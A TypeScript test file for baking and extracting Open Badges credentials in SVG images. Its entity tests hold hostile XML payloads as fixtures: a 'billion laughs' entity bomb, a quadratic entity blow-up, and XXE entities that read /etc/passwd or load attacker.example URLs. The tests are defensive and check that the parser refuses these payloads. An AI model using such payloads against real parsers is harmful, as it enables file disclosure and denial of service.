/**
 * SVG baking (OB 3.0 §"Baked Badge" > SVG): `xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0"` on the root and
 * an `<openbadges:credential>` directly after its start tag, with a VC-JWT in `verify` or JSON in CDATA; legacy
 * Open Badges 2.0 `<openbadges:assertion>` read as what it is; hostile XML (entities) handled safely.
 */
import { DOMParser } from '@xmldom/xmldom'
import { afterEach, beforeAll, describe, expect, it, vi } from 'vitest'
import { issueJwt, verify, type Ed25519KeyPair, type SignedMicroCredential } from '../../../src/index.js'
import { bakeSvg, extractFromSvg } from '../../../src/entries/bake.js'
import { euCredential, signedEuCredential } from '../../helpers/credentials.js'
import { BADGE_SVG, ILLUSTRATOR_SVG, NOW, expectCode } from './helpers.js'

const OB3 = 'https://purl.imsglobal.org/ob/v3p0'
const ROOT_START = BADGE_SVG.indexOf('<svg')
const ROOT_TAG_END = BADGE_SVG.indexOf('>', ROOT_START) + 1

let keyPair: Ed25519KeyPair
let signed: SignedMicroCredential
let jwt: string

beforeAll(async () => {
  ;({ keyPair, signed } = await signedEuCredential())
  jwt = await issueJwt(euCredential(keyPair), { keyPair })
})

afterEach(() => {
  vi.restoreAllMocks()
})

/** The document element of a baked SVG, parsed with a plain xmldom parser (independent of the code under test). */
function rootOf(svg: string) {
  const document = new DOMParser({
    onError: (level, message) => {
      if (level !== 'warning') throw new Error(message)
    },
  }).parseFromString(svg, 'image/svg+xml')
  return document.documentElement!
}

/** The element children of an element. */
function elementChildren(element: ReturnType<typeof rootOf>) {
  return [...Array.from(element.childNodes)].filter((n) => n.nodeType === 1) as ReturnType<typeof rootOf>[]
}

describe('bakeSvg() + extractFromSvg()', () => {
  it('bakes a credential as JSON in CDATA, in an <openbadges:credential> directly after the <svg> start tag', async () => {
    const baked = bakeSvg(BADGE_SVG, signed)
    const root = rootOf(baked)
    expect(root.getAttribute('xmlns:openbadges')).toBe(OB3)
    const first = root.firstChild as ReturnType<typeof rootOf>
    expect([first.namespaceURI, first.localName, first.prefix]).toEqual([OB3, 'credential', 'openbadges'])
    expect(first.hasAttribute('verify')).toBe(false)
    expect(first.childNodes).toHaveLength(1)
    expect(first.firstChild!.nodeType).toBe(4) // a CDATA section
    expect(JSON.parse(first.textContent!)).toEqual(JSON.parse(JSON.stringify(signed)))

    expect(extractFromSvg(baked)).toEqual({
      version: 'ob3',
      format: 'ldp',
      image: 'svg',
      credential: JSON.parse(JSON.stringify(signed)),
      text: JSON.stringify(signed),
    })
  })

  it('bakes a VC-JWT in the verify attribute', () => {
    const baked = bakeSvg(BADGE_SVG, jwt)
    const first = rootOf(baked).firstChild as ReturnType<typeof rootOf>
    expect(first.getAttribute('verify')).toBe(jwt)
    expect(first.childNodes).toHaveLength(0)
    expect(extractFromSvg(baked)).toEqual({ version: 'ob3', format: 'jwt', image: 'svg', jwt })
  })

  it('keeps every other character of the image: only the namespace attribute and the element are added', () => {
    const elements: [object | string, string][] = [
      [signed, `<openbadges:credential><![CDATA[${JSON.stringify(signed)}]]></openbadges:credential>`],
      [jwt, `<openbadges:credential verify="${jwt}"></openbadges:credential>`],
    ]
    for (const [credential, element] of elements) {
      const attribute = ` xmlns:openbadges="${OB3}"`
      expect(bakeSvg(BADGE_SVG, credential)).toBe(
        `${BADGE_SVG.slice(0, ROOT_TAG_END - 1)}${attribute}>${element}${BADGE_SVG.slice(ROOT_TAG_END)}`,
      )
    }
  })

  it('a second bake replaces the first: exactly one element, with the new content, as if baked once', () => {
    const twice = bakeSvg(bakeSvg(BADGE_SVG, signed), jwt)
    expect(twice).toBe(bakeSvg(BADGE_SVG, jwt))
    expect(elementChildren(rootOf(twice)).filter((e) => e.localName === 'credential')).toHaveLength(1)
    expect(extractFromSvg(twice)).toMatchObject({ format: 'jwt', jwt })
    expect(twice.match(/xmlns:openbadges=/g)).toHaveLength(1)
  })

  it('replaces a credential element baked elsewhere, self-closing or with a comment inside', () => {
    const elsewhere = BADGE_SVG.replace(
      '<title>',
      `<g><openbadges:credential xmlns:openbadges="${OB3}" verify="${jwt}"/></g><title>`,
    )
    const rebaked = bakeSvg(elsewhere, signed)
    expect(rebaked).toContain('<g></g><title>')
    expect(extractFromSvg(rebaked)).toMatchObject({ format: 'ldp' })

    const commented = BADGE_SVG.replace(
      '<title>',
      `<openbadges:credential xmlns:openbadges="${OB3}"><!-- </openbadges:credential> --><![CDATA[{"a": "</openbadges:credential>"}]]></openbadges:credential><title>`,
    )
    const replaced = bakeSvg(commented, jwt)
    expect(replaced).not.toContain('"a"')
    expect(extractFromSvg(replaced)).toMatchObject({ format: 'jwt', jwt })
  })

  it('JSON containing "]]>" still round-trips: the CDATA section is split there', async () => {
    const { signed: tricky } = await signedEuCredential({ description: 'Ends a CDATA section: ]]> and again ]]]]>.' })
    const baked = bakeSvg(BADGE_SVG, tricky)
    expect(baked).toContain(']]]]><![CDATA[>')
    const extracted = extractFromSvg(baked)
    expect(extracted).toMatchObject({ version: 'ob3', format: 'ldp', text: JSON.stringify(tricky) })
    const report = await verify(baked, { now: NOW })
    expect(report.issues).toEqual([])
    expect(report.verified).toBe(true)
  })

  it('characters XML does not allow are baked as JSON escapes, which parse to the same credential', () => {
    const text = JSON.stringify({ ...JSON.parse(JSON.stringify(signed)), name: 'odd \uFFFE and \uD800 here' })
    const extracted = extractFromSvg(bakeSvg(BADGE_SVG, text))
    expect(extracted.version === 'ob3' && extracted.format === 'ldp' && extracted.credential['name']).toBe(
      'odd \uFFFE and \uD800 here',
    )
  })

  it('bakes into a self-closing <svg/>, a prefixed svg:svg root, and reads text with a byte order mark and leading whitespace', () => {
    const empty = bakeSvg('<svg xmlns="http://www.w3.org/2000/svg" width="10"/>', jwt)
    expect(empty).toBe(
      `<svg xmlns="http://www.w3.org/2000/svg" width="10" xmlns:openbadges="${OB3}"><openbadges:credential verify="${jwt}"></openbadges:credential></svg>`,
    )
    const prefixed = bakeSvg('<svg:svg xmlns:svg="http://www.w3.org/2000/svg"/>', jwt)
    expect(prefixed.endsWith('</svg:svg>')).toBe(true)
    expect(extractFromSvg(prefixed)).toMatchObject({ jwt })
    const bom = `\uFEFF\n  ${BADGE_SVG}`
    const baked = bakeSvg(bom, jwt)
    expect(baked.startsWith(`\uFEFF\n  <?xml`)).toBe(true)
    expect(extractFromSvg(baked)).toMatchObject({ jwt })
  })

  it('reads bytes: UTF-8 (with or without a byte order mark) and UTF-16 with a byte order mark', () => {
    const baked = bakeSvg(BADGE_SVG, signed)
    const utf8 = new TextEncoder().encode(baked)
    expect(extractFromSvg(utf8)).toMatchObject({ format: 'ldp', text: JSON.stringify(signed) })
    expect(extractFromSvg(new Uint8Array([0xef, 0xbb, 0xbf, ...utf8]))).toMatchObject({ format: 'ldp' })
    const utf16 = Buffer.concat([
      Buffer.from([0xff, 0xfe]),
      Buffer.from(baked.replace('encoding="UTF-8"', 'encoding="UTF-16"'), 'utf16le'),
    ])
    expect(extractFromSvg(new Uint8Array(utf16))).toMatchObject({
      format: 'ldp',
      credential: JSON.parse(JSON.stringify(signed)),
    })
    expect(
      expectCode(() => extractFromSvg(new Uint8Array([0x3c, 0x73, 0xff, 0x3e])), 'ERR_IMAGE_INVALID').message,
    ).toMatch(/not UTF-8 text/)
  })

  it('an SVG whose XML declaration names a non-Unicode encoding gets the JSON as ASCII (\\u escapes)', async () => {
    const latin1 = BADGE_SVG.replace('encoding="UTF-8"', 'encoding="ISO-8859-1"')
    const baked = bakeSvg(latin1, signed)
    const element = baked.slice(baked.indexOf('<openbadges:credential'), baked.indexOf('</openbadges:credential>'))
    expect(JSON.stringify(signed)).toMatch(/\P{ASCII}/u) // the fixture has "Universität"
    expect(element).not.toMatch(/\P{ASCII}/u)
    expect(element).toContain('Universit\\u00e4t')
    expect((await verify(baked, { now: NOW })).verified).toBe(true)
  })

  it('when the root binds "openbadges" to Open Badges 2.0, the credential element declares the OB 3.0 namespace itself', () => {
    const ob2 = BADGE_SVG.replace('<svg ', '<svg xmlns:openbadges="http://openbadges.org" ').replace(
      '<title>',
      '<openbadges:assertion verify="https://example.org/assertions/1.json"></openbadges:assertion><title>',
    )
    const baked = bakeSvg(ob2, jwt)
    const root = rootOf(baked)
    expect(root.getAttribute('xmlns:openbadges')).toBe('http://openbadges.org')
    const [credential, assertion] = elementChildren(root)
    expect([credential!.namespaceURI, credential!.localName]).toEqual([OB3, 'credential'])
    expect([assertion!.namespaceURI, assertion!.localName]).toEqual(['http://openbadges.org', 'assertion'])
    expect(extractFromSvg(baked)).toMatchObject({ version: 'ob3', format: 'jwt', jwt })
  })

  it('reads the namespace variant https://purl.imsglobal.org/spec/ob/v3p0 found in the wild', () => {
    const variant = BADGE_SVG.replace(
      '<title>',
      `<ob:credential xmlns:ob="https://purl.imsglobal.org/spec/ob/v3p0" verify="${jwt}"/><title>`,
    )
    expect(extractFromSvg(variant)).toMatchObject({ version: 'ob3', jwt })
  })
})

describe('extractFromSvg(): what is not a well-baked SVG', () => {
  it('nothing baked is ERR_NOT_BAKED', () => {
    expect(expectCode(() => extractFromSvg(BADGE_SVG), 'ERR_NOT_BAKED').message).toBe(
      'the SVG carries no baked credential: it has no <openbadges:credential> element',
    )
    // The right element name in the wrong namespace is not a credential.
    expectCode(
      () =>
        extractFromSvg(
          BADGE_SVG.replace('<title>', `<x:credential xmlns:x="https://example.org/ns" verify="${jwt}"/><title>`),
        ),
      'ERR_NOT_BAKED',
    )
  })

  it('malformed XML is ERR_IMAGE_INVALID with the line and column the parser reports', () => {
    const broken = BADGE_SVG.replace('</text>', '</txt>')
    const error = expectCode(() => extractFromSvg(broken), 'ERR_IMAGE_INVALID')
    expect(error.message).toMatch(/^the SVG is not well-formed XML at line 6, column \d+: .*"text" != "txt"/)
    expectCode(
      () => extractFromSvg('<svg xmlns="http://www.w3.org/2000/svg"><rect width=10/></svg>'),
      'ERR_IMAGE_INVALID',
    )
    expectCode(() => extractFromSvg('<svg xmlns="http://www.w3.org/2000/svg"><a:b/></svg>'), 'ERR_IMAGE_INVALID')
    expectCode(() => extractFromSvg('<svg xmlns="http://www.w3.org/2000/svg"/><svg/>'), 'ERR_IMAGE_INVALID')
    expectCode(() => bakeSvg(broken, jwt), 'ERR_IMAGE_INVALID')
  })

  it('a root that is not an SVG <svg> is ERR_IMAGE_INVALID', () => {
    expect(expectCode(() => extractFromSvg('<html><body/></html>'), 'ERR_IMAGE_INVALID').message).toMatch(
      /the root element is <html>.*not an SVG <svg> element/,
    )
    expect(
      expectCode(() => extractFromSvg('<svg xmlns="https://example.org/not-svg"/>'), 'ERR_IMAGE_INVALID').message,
    ).toMatch(/in the namespace https:\/\/example\.org\/not-svg/)
    expectCode(() => bakeSvg('<?xml version="1.0"?><note>hi</note>', signed), 'ERR_IMAGE_INVALID')
  })

  it('two credential elements are ERR_IMAGE_INVALID (OB 3.0: "There MUST be only one"), to read and to bake', () => {
    const two = bakeSvg(BADGE_SVG, jwt).replace('<title>', `<openbadges:credential verify="${jwt}"/><title>`)
    expect(expectCode(() => extractFromSvg(two), 'ERR_IMAGE_INVALID').message).toMatch(
      /the SVG has 2 <openbadges:credential> elements \(lines 2, 3\)/,
    )
    expectCode(() => bakeSvg(two, signed), 'ERR_IMAGE_INVALID')
  })

  it.each([
    ['an element inside', `<openbadges:credential><x/></openbadges:credential>`, /contains an element <x>/],
    [
      'both a JWT and JSON',
      `<openbadges:credential verify="a.b.c"><![CDATA[{}]]></openbadges:credential>`,
      /both a verify attribute/,
    ],
    [
      'a verify attribute that is no JWS',
      `<openbadges:credential verify="https://example.org/c.json"/>`,
      /is not a VC-JWT/,
    ],
    ['nothing in it', `<openbadges:credential>  </openbadges:credential>`, /is empty/],
    ['a body that is not JSON', `<openbadges:credential>credential</openbadges:credential>`, /nor valid JSON/],
  ])('a credential element with %s is ERR_IMAGE_INVALID', (_name, element, message) => {
    const svg = BADGE_SVG.replace('<svg ', `<svg xmlns:openbadges="${OB3}" `).replace('<title>', `${element}<title>`)
    expect(expectCode(() => extractFromSvg(svg), 'ERR_IMAGE_INVALID').message).toMatch(message)
  })

  it('caps the image size (options.maxImageBytes), as text and as bytes, and the credential size (options.maxBytes)', () => {
    const baked = bakeSvg(BADGE_SVG, signed)
    const size = Buffer.byteLength(baked)
    expect(expectCode(() => extractFromSvg(baked, { maxImageBytes: 2000 }), 'ERR_INPUT_TOO_LARGE').message).toBe(
      `the SVG is ${size} bytes, over the 2000-byte cap (options.maxImageBytes)`,
    )
    expectCode(() => extractFromSvg(Buffer.from(baked), { maxImageBytes: 2000 }), 'ERR_INPUT_TOO_LARGE')
    expect(expectCode(() => extractFromSvg(baked, { maxBytes: 2000 }), 'ERR_INPUT_TOO_LARGE').message).toMatch(
      /over the 2000-byte cap \(options\.maxBytes\)/,
    )
  })

  it('throws TypeError for arguments of the wrong type', () => {
    expect(() => extractFromSvg(42 as never)).toThrow(TypeError)
    expect(() => bakeSvg({ svg: BADGE_SVG } as never, jwt)).toThrow(TypeError)
    expect(() => bakeSvg(BADGE_SVG, 42 as never)).toThrow(TypeError)
  })

  it('refuses to bake an unsigned credential (ERR_PROOF_MISSING)', () => {
    expectCode(() => bakeSvg(BADGE_SVG, euCredential(keyPair)), 'ERR_PROOF_MISSING')
  })
})

describe('SVG entities: Adobe Illustrator files work, hostile ones are refused without being expanded or loaded', () => {
  it('an Illustrator SVG (DOCTYPE declaring namespace entities used by the root, CRLF line ends) is baked, extracted and verified', async () => {
    const baked = bakeSvg(ILLUSTRATOR_SVG, signed)
    // Everything is kept: the DOCTYPE, the entity references, the CRLF line ends.
    const rootTagEnd = ILLUSTRATOR_SVG.indexOf('xml:space="preserve">') + 'xml:space="preserve"'.length
    const element = baked.slice(
      rootTagEnd + ` xmlns:openbadges="${OB3}">`.length,
      baked.indexOf('</openbadges:credential>') + '</openbadges:credential>'.length,
    )
    expect(baked).toBe(
      `${ILLUSTRATOR_SVG.slice(0, rootTagEnd)} xmlns:openbadges="${OB3}">${element}${ILLUSTRATOR_SVG.slice(rootTagEnd + 1)}`,
    )
    expect(element.startsWith('<openbadges:credential><![CDATA[')).toBe(true)
    expect(extractFromSvg(baked)).toMatchObject({ version: 'ob3', format: 'ldp', text: JSON.stringify(signed) })
    const report = await verify(baked, { now: NOW })
    expect(report.issues).toEqual([])
    expect(report).toMatchObject({ verified: true, baked: 'svg' })
    expect(bakeSvg(baked, jwt)).toBe(bakeSvg(ILLUSTRATOR_SVG, jwt))
  })

  it('"billion laughs" (entities defined through entities) is refused at once: nothing is expanded', async () => {
    const levels = Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join('\n  ')
    const lol = `<?xml version="1.0"?>\n<!DOCTYPE svg [\n  <!ENTITY lol0 "lol">\n  ${levels}\n]>\n<svg xmlns="http://www.w3.org/2000/svg"><text>&lol9;</text></svg>`
    const heapBefore = process.memoryUsage().heapUsed
    const error = expectCode(() => extractFromSvg(lol), 'ERR_IMAGE_INVALID')
    expect(error.message).toMatch(
      /at line 14, column \d+: the entity &lol9; is defined through other entities or markup: microcred does not expand such entities/,
    )
    expectCode(() => bakeSvg(lol, jwt), 'ERR_IMAGE_INVALID')
    expect((await verify(lol)).issues).toEqual([
      expect.objectContaining({ check: 'syntax', code: 'ERR_IMAGE_INVALID' }),
    ])
    // 10^9 "lol"s would be gigabytes; nothing near that was allocated.
    expect(process.memoryUsage().heapUsed - heapBefore).toBeLessThan(64 * 1024 * 1024)
  })

  it('a large plain entity referenced many times is not expanded either (quadratic blow-up)', () => {
    const svg = `<!DOCTYPE svg [<!ENTITY a "${'a'.repeat(100_000)}">]>\n<svg xmlns="http://www.w3.org/2000/svg"><text>${'&a;'.repeat(50_000)}</text></svg>`
    const heapBefore = process.memoryUsage().heapUsed
    expectCode(() => extractFromSvg(svg), 'ERR_NOT_BAKED')
    // Expanded, the text would be 5 GB (10 GB of UTF-16): what was allocated is the document's size, not that.
    expect(process.memoryUsage().heapUsed - heapBefore).toBeLessThan(256 * 1024 * 1024)
  })

  it('an external entity (XXE) is never loaded: a reference to one is ERR_IMAGE_INVALID, and nothing is fetched', () => {
    const fetchSpy = vi.spyOn(globalThis, 'fetch')
    const xxe = `<?xml version="1.0"?>\n<!DOCTYPE svg [\n  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n  <!ENTITY remote SYSTEM "https://attacker.example/x">\n]>\n<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="${OB3}"><openbadges:credential>&xxe;</openbadges:credential></svg>`
    const error = expectCode(() => extractFromSvg(xxe), 'ERR_IMAGE_INVALID')
    expect(error.message).toMatch(/the entity &xxe; is external: microcred never loads external entities/)
    expect(error.message).not.toMatch(/root:/)
    expectCode(() => extractFromSvg(xxe.replace('&xxe;', '&remote;')), 'ERR_IMAGE_INVALID')
    expect(fetchSpy).not.toHaveBeenCalled()
  })

  it('an external DTD or parameter entity is never loaded: a DOCTYPE that only names one is read as it is', () => {
    const fetchSpy = vi.spyOn(globalThis, 'fetch')
    const svg = `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [\n  <!ENTITY % remote SYSTEM "https://attacker.example/evil.dtd">\n  %remote;\n]>\n${BADGE_SVG.slice(BADGE_SVG.indexOf('<svg'))}`
    expect(extractFromSvg(bakeSvg(svg, jwt))).toMatchObject({ version: 'ob3', jwt })
    expect(fetchSpy).not.toHaveBeenCalled()
  })

  it('an undeclared entity (an HTML one such as &nbsp;) is ERR_IMAGE_INVALID, naming it', () => {
    const svg = BADGE_SVG.replace('DE &#x2713;', 'DE&nbsp;1')
    expect(expectCode(() => extractFromSvg(svg), 'ERR_IMAGE_INVALID').message).toMatch(
      /the entity &nbsp; is not declared/,
    )
  })
})

describe('extractFromSvg(): legacy Open Badges 2.0', () => {
  const svgWith = (assertion: string) =>
    BADGE_SVG.replace('<svg ', '<svg xmlns:openbadges="http://openbadges.org" ').replace(
      '<title>',
      `${assertion}<title>`,
    )

  it('an assertion as JSON in CDATA is kind "assertion", and verify() fails it with ERR_OB2_ASSERTION', async () => {
    const assertion = {
      uid: 'abcdef12345',
      recipient: { type: 'email', hashed: false, identity: 'ada@example.org' },
      badge: 'https://example.org/badge.json',
      verify: { type: 'hosted', url: 'https://example.org/assertion.json' },
      issuedOn: '2013-11-05',
    }
    const svg = svgWith(
      `<openbadges:assertion verify="https://example.org/assertion.json">\n  <![CDATA[\n${JSON.stringify(assertion, null, 2)}\n  ]]>\n</openbadges:assertion>`,
    )
    const extracted = extractFromSvg(svg)
    expect(extracted).toMatchObject({ version: 'ob2', image: 'svg', kind: 'assertion', value: assertion })
    expect(extracted.version === 'ob2' && extracted.description).toMatch(
      /^an Open Badges 2\.0 assertion \(abcdef12345\) as JSON in the SVG's <openbadges:assertion> element \(line 3\) \(Open Badges 2\.0 baking\)$/,
    )
    const report = await verify(svg)
    expect(report).toMatchObject({ verified: false, baked: 'svg' })
    expect(report.issues).toEqual([
      expect.objectContaining({
        check: 'syntax',
        code: 'ERR_OB2_ASSERTION',
        message: expect.stringMatching(
          /^the SVG image carries an Open Badges 2\.0 assertion, not an Open Badges 3\.0 credential/,
        ),
      }),
    ])
  })

  it('a verify attribute without a body is a signature (kind "jws") or a hosted assertion URL (kind "url")', () => {
    const jws = 'eyJhbGciOiJSUzI1NiJ9.eyJ1aWQiOiIxMjMifQ.c2lnbmF0dXJl'
    expect(extractFromSvg(svgWith(`<openbadges:assertion verify="${jws}"/>`))).toMatchObject({
      version: 'ob2',
      kind: 'jws',
      value: jws,
    })
    expect(
      extractFromSvg(svgWith('<openbadges:assertion verify="https://example.org/a.json"></openbadges:assertion>')),
    ).toMatchObject({ version: 'ob2', kind: 'url', value: 'https://example.org/a.json' })
    expectCode(() => extractFromSvg(svgWith('<openbadges:assertion/>')), 'ERR_IMAGE_INVALID')
  })
})

describe('SVG of hostile size or shape: always a result or a MicrocredError, never a RangeError', () => {
  /** BADGE_SVG with `inner` as the root's first content. */
  const withContent = (inner: string, rootAttributes = '') =>
    BADGE_SVG.replace(/(<svg [^>]*)>/, `$1${rootAttributes}>${inner}`)

  // BADGE_SVG has 4 elements: <svg>, <title>, <circle>, <text>.
  it('an SVG at the element cap (MAX_SVG_ELEMENTS, 50,000 in all) is walked and baked; baking one more element into it is refused', () => {
    const full = withContent('<g/>'.repeat(50_000 - 4))
    expectCode(() => extractFromSvg(full), 'ERR_NOT_BAKED')
    // The credential element would be element 50,001: what extractFromSvg() refuses is not written.
    expect(expectCode(() => bakeSvg(full, jwt), 'ERR_INPUT_TOO_LARGE').message).toMatch(
      /^the baked SVG has more than 50,000 elements .*\(MAX_SVG_ELEMENTS\)$/,
    )
    const room = withContent('<g/>'.repeat(50_000 - 5))
    expect(extractFromSvg(bakeSvg(room, jwt))).toEqual({ version: 'ob3', format: 'jwt', image: 'svg', jwt })
    // The credential element after the siblings (element 50,000) is found, and replaced by a second bake.
    const last = withContent(
      `${'<g/>'.repeat(50_000 - 5)}<openbadges:credential verify="${jwt}"/>`,
      ` xmlns:openbadges="${OB3}"`,
    )
    expect(extractFromSvg(last)).toMatchObject({ format: 'jwt', jwt })
    expect(extractFromSvg(bakeSvg(last, signed))).toMatchObject({ format: 'ldp', text: JSON.stringify(signed) })
  })

  it('more than 1,000 namespace declarations (xmldom slows down with the square of nested ones) are ERR_IMAGE_INVALID, at once', () => {
    const nested = withContent(`${'<g xmlns:a="urn:x">'.repeat(40_000)}${'</g>'.repeat(40_000)}`)
    // Refused by a count made before the XML is parsed, not by a parse that took its quadratic time.
    const error = expectCode(() => extractFromSvg(nested), 'ERR_IMAGE_INVALID')
    expect(error.message).toContain('more than 1000 XML namespaces')
    expectCode(() => bakeSvg(nested, jwt), 'ERR_IMAGE_INVALID')
    // A thousand is still fine (nested as deep as MAX_SVG_DEPTH allows, the rest side by side).
    const some = withContent(
      `${'<g xmlns:a="urn:x">'.repeat(200)}${'</g>'.repeat(200)}${'<g xmlns:a="urn:x"/>'.repeat(700)}`,
    )
    expectCode(() => extractFromSvg(some), 'ERR_NOT_BAKED')
  })

  it('40,000 credential elements are ERR_IMAGE_INVALID, with a message that lists only the first few lines', () => {
    const many = withContent('<openbadges:credential/>\n'.repeat(40_000), ` xmlns:openbadges="${OB3}"`)
    const error = expectCode(() => extractFromSvg(many), 'ERR_IMAGE_INVALID')
    expect(error.message).toMatch(
      /^the SVG has 40000 <openbadges:credential> elements \(lines 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, …\); an image carries at most one$/,
    )
    expectCode(() => bakeSvg(many, jwt), 'ERR_IMAGE_INVALID')
  })

  it('nesting at the depth cap (MAX_SVG_DEPTH, 256 with the root) is walked: extracted, baked, and a credential that deep is found and replaced', () => {
    // <svg> is at depth 1: 255 <g> take the deepest to depth 256.
    const deep = withContent(`${'<g>'.repeat(255)}${'</g>'.repeat(255)}`)
    expectCode(() => extractFromSvg(deep), 'ERR_NOT_BAKED')
    expect(extractFromSvg(bakeSvg(deep, jwt))).toMatchObject({ format: 'jwt', jwt })
    const nested = withContent(
      `${'<g>'.repeat(254)}<openbadges:credential verify="${jwt}"/>${'</g>'.repeat(254)}`,
      ` xmlns:openbadges="${OB3}"`,
    )
    expect(extractFromSvg(nested)).toMatchObject({ format: 'jwt', jwt })
    const rebaked = bakeSvg(nested, signed)
    expect(rebaked.match(/<openbadges:credential/g)).toHaveLength(1)
    expect(extractFromSvg(rebaked)).toMatchObject({ format: 'ldp', text: JSON.stringify(signed) })
    // Unbalanced nesting is malformed XML, reported as such (BADGE_SVG's own elements go two levels deeper).
    expectCode(() => extractFromSvg(withContent('<g>'.repeat(250))), 'ERR_IMAGE_INVALID')
  })
})

describe('SVG entities inside the baked element: refused, since a conformant XML parser would expand them', () => {
  // A simple internal entity, as Illustrator declares them: tolerated in the artwork, read there as its literal text.
  const DOCTYPE = '<!DOCTYPE svg [\n  <!ENTITY a "hello">\n  <!ENTITY ob "https://purl.imsglobal.org/ob/v3p0">\n]>\n'
  const svgWith = (element: string, namespace = OB3) =>
    `${DOCTYPE}${BADGE_SVG.slice(BADGE_SVG.indexOf('<svg')).replace('<svg ', `<svg xmlns:openbadges="${namespace}" `).replace('<title>', `${element}<title>`)}`

  it.each([
    ['its body (JSON)', `<openbadges:credential>{"name": "&a;"}</openbadges:credential>`, 'its body'],
    [
      'its body, between CDATA sections',
      `<openbadges:credential><![CDATA[{"name": "]]>&a;<![CDATA["}]]></openbadges:credential>`,
      'its body',
    ],
    ['its verify attribute (a VC-JWT)', `<openbadges:credential verify="&a;"/>`, 'its verify attribute'],
    [
      'another attribute',
      `<openbadges:credential id='x&a;' verify="eyJhbGciOiJFZERTQSJ9.e30.c2ln"/>`,
      'its id attribute',
    ],
  ])('a reference in %s is ERR_IMAGE_INVALID, naming the entity and where it is', (_name, element, where) => {
    const error = expectCode(() => extractFromSvg(svgWith(element)), 'ERR_IMAGE_INVALID')
    expect(error.message).toBe(
      `the SVG's <openbadges:credential> element (line 6) refers to the entity &a; in ${where}: microcred does not expand entities in a baked credential, ` +
        'where a conformant XML parser would, so the credential would read differently elsewhere; write the characters themselves (or character references such as &#38;)',
    )
  })

  it('an Open Badges 2.0 assertion is held to the same rule (a verify URL with a reference is not read as "…/&a;")', () => {
    const svg = svgWith('<openbadges:assertion verify="https://example.org/&a;"/>', 'http://openbadges.org')
    expect(expectCode(() => extractFromSvg(svg), 'ERR_IMAGE_INVALID').message).toMatch(
      /<openbadges:assertion> element \(line 6\) refers to the entity &a; in its verify attribute/,
    )
  })

  it('verify() reports it as a syntax issue', async () => {
    const report = await verify(svgWith(`<openbadges:credential>{"name": "&a;"}</openbadges:credential>`), { now: NOW })
    expect(report).toMatchObject({ verified: false, baked: 'svg' })
    expect(report.issues).toEqual([
      expect.objectContaining({
        check: 'syntax',
        code: 'ERR_IMAGE_INVALID',
        message: expect.stringMatching(/refers to the entity &a;/),
      }),
    ])
  })

  it('predefined entities, character references, "&a;" as CDATA text, a namespace entity and references in the artwork are all fine', () => {
    const credential = { ...JSON.parse(JSON.stringify(signed)), name: 'R&D &a; <b>' }
    const text = JSON.stringify(credential)
    const escaped = text.replace(/&/g, '&amp;').replace(/</g, '&#60;').replace(/>/g, '&gt;')
    for (const element of [
      `<openbadges:credential>${escaped}</openbadges:credential>`,
      `<openbadges:credential><![CDATA[${text}]]></openbadges:credential>`,
      `<openbadges:credential xmlns:openbadges="&ob;"><!-- &a; --><![CDATA[${text}]]></openbadges:credential>`,
    ]) {
      const svg = svgWith(element).replace('<text ', '<text data-a="&a;" ')
      expect(extractFromSvg(svg)).toMatchObject({ version: 'ob3', format: 'ldp', credential, text })
    }
    // An image whose old credential element has a reference is baked anyway: the element is replaced.
    expect(extractFromSvg(bakeSvg(svgWith(`<openbadges:credential verify="&a;"/>`), jwt))).toMatchObject({
      format: 'jwt',
      jwt,
    })
  })
})
